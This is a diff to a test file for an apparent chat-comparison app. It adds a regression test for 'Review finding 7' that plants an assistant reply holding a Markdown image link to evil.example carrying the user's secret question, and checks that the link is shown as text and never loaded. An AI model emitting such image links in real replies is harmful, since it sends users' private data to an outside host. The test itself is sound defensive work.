@@ -73,7 +73,7 @@ def test_two_models_reply_side_by_side_with_group_charts(chat_store: Store) -> N
     assert len(charts) == 2
     figure = json.loads(charts[0].proto.spec)
     assert {trace["name"] for trace in figure["data"]} == {"gender=woman", "gender=man"}
-    user_messages = [m for m in at.markdown if "Why" in m.value]
+    user_messages = [m for m in at.text if m.value == "<b>Why</b> are people rude?"]
     assert len(user_messages) == 2 and not any(m.proto.allow_html for m in at.markdown)
 
     at.button(key="chat_reset").click().run()
@@ -95,3 +95,20 @@ def test_offers_to_train_default_group_reward_models(chat_store: Store) -> None:
     assert not at.exception, at.exception
     assert set(at.multiselect(key="chat_groups").options) == {"gender=woman", "gender=man"}
     assert len(chat_store.artifacts("reward_model", "planted")) == 4  # 2 groups x 2 dimensions
+
+
+def test_a_reply_with_an_image_link_is_shown_as_text_and_fetches_nothing(chat_store: Store) -> None:
+    """Review finding 7: Markdown turned ``![](https://evil.example/?q=...)`` in a reply into an <img>."""
+    leak = "Sure. ![x](https://evil.example/leak?q=my+secret+question)"
+    at = AppTest.from_file(str(paths.REPO_ROOT / "app.py"), default_timeout=90)
+    at.run()
+    at.session_state["chat_histories"] = {
+        "base": [
+            {"role": "user", "content": "my secret question"},
+            {"role": "assistant", "content": leak, "ratings": []},
+        ]
+    }
+    at.switch_page("pages/chat.py").run()
+    assert not at.exception, at.exception
+    assert leak in [element.value for element in at.text]
+    assert not [m.value for m in at.markdown if "evil.example" in m.value]
